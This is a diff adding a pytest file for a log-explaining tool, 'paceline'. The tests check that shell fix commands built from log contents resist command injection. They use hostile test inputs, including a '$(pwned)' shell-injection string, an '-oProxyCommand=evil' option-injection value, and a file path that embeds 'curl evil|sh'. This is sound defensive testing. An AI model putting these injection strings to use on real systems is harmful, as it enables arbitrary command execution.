@@ -1,0 +1,177 @@
+"""
+Fixes: they follow what the log says, and a shell reads their commands as they are shown, whatever the log contains.
+
+Commands run in a folder of their own in which no program exists; those that only read also run for real.
+"""
+
+import ast
+import re
+import shlex
+import shutil
+import subprocess
+from collections.abc import Iterator, Mapping
+
+import pytest
+from log_samples import raised
+
+from paceline.cli import COMMANDS
+from paceline.explain.catalogue import load_catalogue
+from paceline.explain.run_folder import explain
+from paceline.explain.verdict import PLACEHOLDER, fill_template
+
+TEMPLATES = [
+    template
+    for cause in load_catalogue().causes.values()
+    for template in (cause.fix, *(fix.fix for fix in cause.fixes))
+]
+COMMAND = re.compile(r"`([^`]*)`")
+TRAP = '$(pwned);pwned & pwned|pwned > x \'"$(pwned)" ${IFS} # \\'
+LOCAL = {
+    "path": ".",
+    "host": "localhost",
+    "master": "localhost",
+    "port": "9",
+    "tool": "ls",
+    "library": "libc",
+    "script": ".",
+}
+HARMLESS = {"df", "env", "free", "getent", "grep", "head", "id", "ip", "ldconfig", "ldd", "ls", "lscpu", "ps", "ss"}
+HARMLESS |= {"ulimit", "uname", "wc"}
+USERS_PART = re.compile(r"(?<![\w$-])[A-Z]{2,}(?![\w=])")  # such as DIR or PID
+
+
+def commands(values: Mapping[str, str]) -> Iterator[str]:
+    """Every command of every fix, with these values."""
+    for template in TEMPLATES:
+        yield from COMMAND.findall(fill_template(template, values))
+
+
+def values_of_all(value: str) -> dict[str, str]:
+    return {name: value for template in TEMPLATES for name in PLACEHOLDER.findall(template)}
+
+
+def bash(script: str, *arguments: str, **options) -> subprocess.CompletedProcess:
+    command = [shutil.which("bash"), *arguments, "-c", script]
+    return subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120, **options)
+
+
+@pytest.mark.parametrize("value", ["", "/data/train.bin", TRAP], ids=["no value", "a path", "a trap"])
+def test_a_shell_can_parse_every_command(value):
+    found = list(commands(values_of_all(value) if value else {}))
+    assert len(found) > 300
+    script = "\n".join(f"(\n{command}\n)" for command in found)
+    assert bash(script, "-n").stderr == ""
+
+
+def test_text_of_the_log_is_one_word_of_a_command_and_never_runs(tmp_path):
+    (tmp_path / "bin").mkdir()
+    trap = tmp_path / "bin" / "pwned"
+    trap.write_text(f"#!/bin/sh\n: > {tmp_path}/ran\n")
+    trap.chmod(0o755)
+    sandbox = {"cwd": tmp_path, "env": {"PATH": str(tmp_path / "bin"), "HOME": str(tmp_path), "USER": "user"}}
+    bash("\n".join(f"(\n{command}\n)" for command in commands(values_of_all(TRAP))), **sandbox)
+    assert not (tmp_path / "ran").exists()
+    bash("$(pwned)", **sandbox)  # the trap works
+    assert (tmp_path / "ran").exists()
+
+
+def test_every_value_in_a_command_is_a_whole_part_of_a_word():
+    for template in TEMPLATES:
+        for plain in COMMAND.findall(template):
+            if not (names := PLACEHOLDER.findall(plain)):
+                continue
+            [filled] = COMMAND.findall(fill_template(f"`{plain}`", dict.fromkeys(names, TRAP)))
+            assert sum(word.count(TRAP) for word in shlex.split(filled)) == len(names), plain
+
+
+@pytest.mark.parametrize("value", ["-oProxyCommand=evil", "a`b"])
+def test_a_value_that_would_be_an_option_or_end_the_command_is_left_out(value):
+    assert [command for command in commands(values_of_all(value)) if value in command] == []
+
+
+def test_python_in_a_command_is_valid_and_paceline_has_its_commands():
+    for command in commands({}):
+        match shlex.split(command):
+            case ["python", "-c", code, *_]:
+                ast.parse(code)
+            case ["paceline", *words]:
+                assert words[0] in COMMANDS or " ".join(words[:2]) in COMMANDS, command
+
+
+def test_harmless_commands_work_here():
+    ran = 0
+    for command in {command for command in commands(LOCAL) if not (USERS_PART.search(command) or "$(" in command)}:
+        programs = {part.split()[0] for part in re.split(r"[|;]", re.sub(r"'[^']*'", "x", command))}
+        if programs <= HARMLESS and all(program == "ulimit" or shutil.which(program) for program in programs):
+            ended = bash(command)
+            assert ended.returncode not in (126, 127), command
+            assert not re.search("option|operand|[Uu]sage", ended.stderr), command
+            ran += 1
+    assert ran > 10
+
+
+def explain_text(text):
+    return explain([text.encode()])
+
+
+def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
+    path = "/data/$(touch X);curl evil|sh/train.bin"
+    fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
+    assert f"`ls -l '{path}'`" in fix
+
+
+@pytest.mark.parametrize(
+    ("module", "package"),
+    [
+        ("yaml", "PyYAML"),
+        ("PIL", "pillow"),
+        ("sklearn", "scikit-learn"),
+        ("cv2", "opencv-python-headless"),
+        ("einops", "einops"),
+    ],
+)
+def test_a_missing_module_names_the_package_that_contains_it(module, package):
+    fix = explain_text(raised(0, f"ModuleNotFoundError: No module named '{module}'")).fix
+    assert f"`python -m pip install {package}`" in fix
+
+
+def test_a_missing_submodule_is_another_version_of_its_package():
+    fix = explain_text(raised(0, "ModuleNotFoundError: No module named 'transformers.models.qwen3'")).fix
+    assert "`python -m pip install transformers==VERSION`" in fix and "install transformers.models" not in fix
+
+
+def test_the_class_to_allow_stands_in_its_list():
+    error = "_pickle.UnpicklingError: Weights only load failed. Unsupported global: GLOBAL numpy._core.multiarray.scalar was not"
+    fix = explain_text(raised(0, f"{error} an allowed global by default.")).fix
+    assert "from numpy._core.multiarray import scalar; torch.serialization.add_safe_globals([scalar])" in fix
+
+
+@pytest.mark.parametrize("wait", ["1800s", "1800000ms"])
+def test_a_timeout_is_shown_in_the_same_units_whatever_the_log_uses(wait):
+    error = f"The client socket has timed out after {wait} while trying to connect to (node-0, 29500)."
+    explanation = explain_text(raised(1, f"torch.distributed.DistNetworkError: {error}"))
+    assert "within 30m00s" in explanation.summary
+    assert "`nc -vz node-0 29500`" in explanation.fix
+
+
+def test_nobody_is_sent_to_their_own_loopback_address():
+    error = "The client socket has timed out after 60000ms while trying to connect to (127.0.0.1, 29500)."
+    assert "nc -vz" not in explain_text(raised(1, f"torch.distributed.DistNetworkError: {error}")).fix
+
+
+def test_a_loss_that_became_nan_is_explained_at_its_first_step():
+    steps = [f"step {step:05d}/00100 | loss {'nan' if step > 9 else 3 - step / 50}\n" for step in range(40)]
+    explanation = explain_text("".join(steps) + raised(None, "FloatingPointError: loss is nan, stopping"))
+    assert (explanation.cause, explanation.step, explanation.evidence[0].line) == ("loss-nan", 10, 11)
+    assert "step 10" in explanation.summary
+
+
+def test_memory_that_the_optimizer_lacks_is_no_matter_of_the_batch():
+    frames = "".join(
+        f'  File "/env/torch/optim/adamw.py", line {n}, in {name}\n'
+        for n, name in ((220, "step"), (146, "_init_group"))
+    )
+    fix = explain_text(
+        f"Traceback (most recent call last):\n{frames}torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n"
+    ).fix
+    assert fix.startswith("shard the optimizer's state")
